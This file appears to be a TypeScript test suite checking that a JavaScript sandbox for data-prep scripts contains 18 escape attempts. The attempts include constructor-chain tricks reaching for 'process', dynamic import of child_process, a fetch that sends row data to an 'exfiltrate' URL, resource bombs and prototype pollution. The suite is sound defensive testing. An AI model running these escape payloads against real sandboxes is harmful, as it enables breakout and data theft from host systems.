/**
 * Escape and abuse attempts against the prep sandbox (issue 5, "what will be checked"):
 * one test per attempt. Each must be contained with a clear error (or be harmless), and
 * the run must be able to continue: the same sandbox answers the next batch, or, after a
 * memory failure, a fresh sandbox opens and works.
 */
import { types } from "node:util";
import { afterEach, describe, expect, it } from "vitest";
import { PrepSandbox, type SandboxLimits } from "../src/sandbox/sandbox.js";

const LIMITS: SandboxLimits = { memoryLimitMb: 64, batchTimeoutMs: 1500 };
const opened: PrepSandbox[] = [];

afterEach(() => {
  for (const sandbox of opened.splice(0)) sandbox.dispose();
});

/** A script whose clean runs `body` when row.evil is set and otherwise returns { ok: "yes" }. */
function abusive(body: string, prelude = ""): string {
  return `${prelude}
function clean(row, ctx) {
  if (row.evil) { ${body} }
  return { ok: "yes" };
}
function render(row) { return { instruction: "i", input: "x", output: "o" }; }`;
}

async function openOk(code: string, limits: SandboxLimits = LIMITS, ctx: unknown = { labels: { yes: "Yes" } }): Promise<PrepSandbox> {
  const outcome = await PrepSandbox.open(code, ctx, limits);
  if (!outcome.ok) throw new Error(`expected the script to load: ${outcome.error}`);
  opened.push(outcome.sandbox);
  return outcome.sandbox;
}

/** The sandbox still answers an innocent batch. */
async function expectUsable(sandbox: PrepSandbox): Promise<void> {
  expect(await sandbox.clean([{ evil: null }])).toEqual({ ok: true, rows: [{ ok: "yes" }] });
}

/** Runs the attempt on row 2 of 3 and expects a row failure matching `error`. */
async function expectRowError(code: string, error: RegExp): Promise<PrepSandbox> {
  const sandbox = await openOk(code);
  const outcome = await sandbox.clean([{ evil: null }, { evil: "yes" }, { evil: null }]);
  expect(outcome).toMatchObject({ ok: false, rowIndex: 1, row: { evil: "yes" }, error: expect.stringMatching(error) });
  return sandbox;
}

/** A WebAssembly module exporting f(), an endless loop: (func (loop (br 0))). */
const WASM_LOOP = [0, 97, 115, 109, 1, 0, 0, 0, 1, 4, 1, 96, 0, 0, 3, 2, 1, 0, 7, 5, 1, 1, 102, 0, 0, 10, 9, 1, 7, 0, 3, 64, 12, 0, 11, 11];

describe("escape attempts", () => {
  it("1. require is not defined", async () => {
    const sandbox = await expectRowError(abusive(`return { fs: typeof require("node:fs") };`), /^clean: ReferenceError: require is not defined$/);
    await expectUsable(sandbox);
  });

  it("2. process is not defined", async () => {
    const sandbox = await expectRowError(abusive(`process.exit(1);`), /^clean: ReferenceError: process is not defined$/);
    await expectUsable(sandbox);
  });

  it("3. dynamic import() is refused: a row that awaits nothing fails its batch, a caught import is rejected", async () => {
    // isolated-vm answers an unhandled import() with "Not supported" for the whole call.
    const sandbox = await openOk(abusive(`return import("node:fs");`));
    expect(await sandbox.clean([{ evil: null }, { evil: "yes" }])).toMatchObject({
      ok: false,
      rowIndex: null,
      error: expect.stringMatching(/Error: Not supported \(dynamic import\(\) is not available in the sandbox\)/),
    });
    await expectUsable(sandbox);
    const watcher = await openOk(`
      var state = "pending";
      function clean(row) {
        if (row.start) import("node:child_process").then(() => { state = "loaded"; }, () => { state = "rejected"; });
        return { state: state };
      }
      function render() { return { instruction: "", input: "", output: "" }; }`);
    await watcher.clean([{ start: "yes" }]);
    expect(await watcher.clean([{}])).toEqual({ ok: true, rows: [{ state: "rejected" }] });
  });

  it("4. globalThis.constructor.constructor('return process')() finds no process", async () => {
    const sandbox = await expectRowError(
      abusive(`return { p: String(globalThis.constructor.constructor("return process")()) };`),
      /^clean: ReferenceError: process is not defined$/,
    );
    await expectUsable(sandbox);
    // The row object is a copy made inside the isolate: its constructor chain ends there too.
    const viaRow = await expectRowError(abusive(`return { p: String(row.constructor.constructor("return process")()) };`), /process is not defined/);
    await expectUsable(viaRow);
  });

  it("5. Function('return this')() is the isolate's own global, with nothing of the host", async () => {
    const sandbox = await openOk(
      abusive(`const g = Function("return this")();
        return { process: typeof g.process, require: typeof g.require, Buffer: typeof g.Buffer, isolateGlobal: g === globalThis };`),
    );
    expect(await sandbox.clean([{ evil: "yes" }])).toEqual({
      ok: true,
      rows: [{ process: "undefined", require: "undefined", Buffer: "undefined", isolateGlobal: true }],
    });
    const reach = await expectRowError(abusive(`Function("return this")().process.mainModule.require("fs");`), /^clean: TypeError: /);
    await expectUsable(reach);
  });

  it("6. fetch is not defined", async () => {
    const sandbox = await expectRowError(abusive(`fetch("http://127.0.0.1:9/exfiltrate?" + JSON.stringify(row));`), /^clean: ReferenceError: fetch is not defined$/);
    await expectUsable(sandbox);
  });

  it("7. WebAssembly is absent, or an endless WASM loop times out", async () => {
    const code = abusive(`
      if (typeof WebAssembly === "undefined") throw new Error("no WebAssembly here");
      const bytes = new Uint8Array(${JSON.stringify(WASM_LOOP)});
      new WebAssembly.Instance(new WebAssembly.Module(bytes)).exports.f();`);
    const sandbox = await openOk(code, { ...LIMITS, batchTimeoutMs: 500 });
    const outcome = await sandbox.clean([{ evil: "yes" }]);
    expect(outcome.ok).toBe(false);
    if (outcome.ok) return;
    expect(outcome.error).toMatch(/timed out after 500 ms|no WebAssembly here|WebAssembly/);
    await expectUsable(sandbox);
  });

  it("8. Atomics.wait forever is refused or times out", async () => {
    const code = abusive(`
      const memory = typeof SharedArrayBuffer === "function" ? new SharedArrayBuffer(4) : new ArrayBuffer(4);
      Atomics.wait(new Int32Array(memory), 0, 0);`);
    const sandbox = await openOk(code, { ...LIMITS, batchTimeoutMs: 500 });
    const outcome = await sandbox.clean([{ evil: "yes" }]);
    expect(outcome.ok).toBe(false);
    if (outcome.ok) return;
    expect(outcome.error).toMatch(/timed out after 500 ms|TypeError|cannot|not allowed|shared/i);
    await expectUsable(sandbox);
  });

  it("9. while (true) times out and the sandbox answers the next batch", async () => {
    const sandbox = await openOk(abusive(`while (true) {}`), { ...LIMITS, batchTimeoutMs: 300 });
    expect(await sandbox.clean([{ evil: "yes" }])).toEqual({
      ok: false,
      rowIndex: null,
      row: null,
      error: expect.stringMatching(/timed out after 300 ms in batch of 1 rows; look for an endless loop/),
    });
    await expectUsable(sandbox);
  });

  it("10. an allocation bomb hits the memory limit; a fresh sandbox still works", async () => {
    const limits = { memoryLimitMb: 32, batchTimeoutMs: 10_000 };
    const code = abusive(`const hoard = []; while (true) hoard.push(new Array(1e6).fill(Math.random()));`);
    const sandbox = await openOk(code, limits);
    expect(await sandbox.clean([{ evil: "yes" }])).toMatchObject({ ok: false, rowIndex: null, error: expect.stringMatching(/exceeded the 32 MB memory limit/) });
    expect(await sandbox.clean([{ evil: null }])).toMatchObject({ ok: false, error: expect.stringMatching(/closed because it exceeded the 32 MB/) });
    await expectUsable(await openOk(code, limits));
  });

  it("11. a 1 GB string result cannot be built, and the largest string V8 allows is refused unserialised", async () => {
    // V8 strings stop short of 2^29 characters: asking for 1 GB fails where it is built.
    const direct = await expectRowError(abusive(`return { big: "x".repeat(2 ** 30) };`), /^clean: RangeError: Invalid string length$/);
    await expectUsable(direct);
    const doubled = await expectRowError(
      abusive(`let s = "x".repeat(1 << 24); for (let i = 0; i < 6; i++) s += s; return { big: s };`),
      /^clean: RangeError: Invalid string length$/,
    );
    await expectUsable(doubled);
    // A 256 Mi-character rope (cheap to build by doubling) is measured, never serialised.
    const rope = `let s = "x".repeat(1 << 24); for (let i = 0; i < 4; i++) s += s;`;
    const refused = await expectRowError(abusive(`${rope} return { big: s };`), /^clean: RangeError: clean returned 268435459 characters, more than the \d+ allowed per row$/);
    await expectUsable(refused);
    const inRender = await openOk(`function clean(row) { return { a: 1 }; }
      function render(row) { ${rope} return { instruction: "i", input: s, output: "o" }; }`);
    expect(await inRender.prep([{}])).toMatchObject({
      ok: false,
      op: "render",
      rowIndex: 0,
      cleaned: { a: 1 },
      error: expect.stringMatching(/^render: RangeError: render returned \d+ characters/),
    });
  });

  it("12. deep recursion is a RangeError on that row", async () => {
    const sandbox = await expectRowError(abusive(`function down(n) { return down(n + 1) + 1; } down(0);`), /^clean: RangeError: Maximum call stack size exceeded$/);
    await expectUsable(sandbox);
  });

  it("13. a Proxy or getter never runs on the host: results arrive as plain copies", async () => {
    let hostSideEffects = 0;
    const sandbox = await openOk(
      abusive(`
        if (row.evil === "getter-throws") return { get a() { throw new Error("boom from a getter"); } };
        return new Proxy({}, {
          ownKeys: () => ["a"],
          getOwnPropertyDescriptor: () => ({ value: "from proxy", enumerable: true, configurable: true }),
          get: (target, key) => (key === "a" ? "from proxy" : undefined),
          getPrototypeOf: () => Object.prototype,
        });`),
    );
    const outcome = await sandbox.clean([{ evil: "proxy" }]);
    expect(outcome).toEqual({ ok: true, rows: [{ a: "from proxy" }] });
    if (outcome.ok) {
      const row = outcome.rows[0];
      expect(types.isProxy(row)).toBe(false);
      expect(Object.getOwnPropertyDescriptor(row, "a")).toEqual({ value: "from proxy", writable: true, enumerable: true, configurable: true });
      hostSideEffects += JSON.stringify(row).length > 0 ? 0 : 1;
    }
    expect(hostSideEffects).toBe(0);
    expect(await sandbox.clean([{ evil: "getter-throws" }])).toMatchObject({ ok: false, rowIndex: 0, error: "clean: Error: boom from a getter" });
    await expectUsable(sandbox);
  });

  it("14. prototype pollution inside stays inside, and a __proto__ key is refused", async () => {
    const sandbox = await openOk(
      abusive(`
        Object.prototype.polluted = "yes";
        Object.prototype.toJSON = undefined;
        if (row.evil === "key") return JSON.parse('{"__proto__": {"polluted": "yes"}, "a": 1}');
        return { a: 1, constructor: "x" };`),
    );
    expect(await sandbox.clean([{ evil: "plain" }])).toEqual({ ok: true, rows: [{ a: 1, constructor: "x" }] });
    expect(await sandbox.clean([{ evil: "key" }])).toMatchObject({ ok: false, rowIndex: 0, error: expect.stringMatching(/"__proto__"/) });
    expect(await sandbox.prep([{ evil: "key" }])).toMatchObject({ ok: false, op: "clean", error: expect.stringMatching(/"__proto__"/) });
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.prototype).not.toHaveProperty("polluted");
    await expectUsable(sandbox);
  });

  it("15. Symbol.toPrimitive tricks: nested values are refused, a looping thrown value times out", async () => {
    const nested = await expectRowError(
      abusive(`return { a: { [Symbol.toPrimitive]() { return "smuggled"; }, toString() { return "smuggled"; } } };`),
      /clean returned an object for "a"; values must be strings, finite numbers, booleans or null/,
    );
    await expectUsable(nested);
    const thrown = await expectRowError(
      abusive(`throw { [Symbol.toPrimitive]() { throw new Error("again"); }, get message() { throw new Error("again"); } };`),
      /^clean: threw a value that cannot be described$/,
    );
    await expectUsable(thrown);
    const looping = await openOk(abusive(`throw { [Symbol.toPrimitive]() { while (true) {} } };`), { ...LIMITS, batchTimeoutMs: 300 });
    expect(await looping.clean([{ evil: "yes" }])).toMatchObject({ ok: false, error: expect.stringMatching(/timed out after 300 ms/) });
    await expectUsable(looping);
  });

  it("16. ctx cannot be mutated between rows", async () => {
    const sandbox = await openOk(
      `function clean(row, ctx) {
        ctx.labels.yes = "changed"; ctx.extra = 1; delete ctx.labels;
        return { yes: ctx.labels ? ctx.labels.yes : "deleted", extra: ctx.extra === undefined ? null : ctx.extra };
      }
      function render() { return { instruction: "", input: "", output: "" }; }`,
    );
    const expected = { yes: "Yes", extra: null };
    expect(await sandbox.clean([{}, {}])).toEqual({ ok: true, rows: [expected, expected] });
    expect(await sandbox.clean([{}])).toEqual({ ok: true, rows: [expected] });
  });

  it("17. a microtask left behind cannot loop after the batch returns", async () => {
    const sandbox = await openOk(abusive(`Promise.resolve().then(() => { while (true) {} });`), { ...LIMITS, batchTimeoutMs: 300 });
    const outcome = await sandbox.clean([{ evil: "yes" }]);
    // Either the batch is charged with the loop (timed out), or the microtask never runs.
    if (!outcome.ok) expect(outcome.error).toMatch(/timed out after 300 ms/);
    await expectUsable(sandbox);
  });

  it("18. the global JSON and Object patched by the script do not change what the host receives", async () => {
    const sandbox = await openOk(
      abusive(`return { a: "real" };`, `JSON.stringify = () => '{"ok":true,"rows":[{"a":"forged"}]}'; JSON.parse = () => ({}); Object.keys = () => [];`),
    );
    expect(await sandbox.clean([{ evil: "yes" }])).toEqual({ ok: true, rows: [{ a: "real" }] });
  });
});
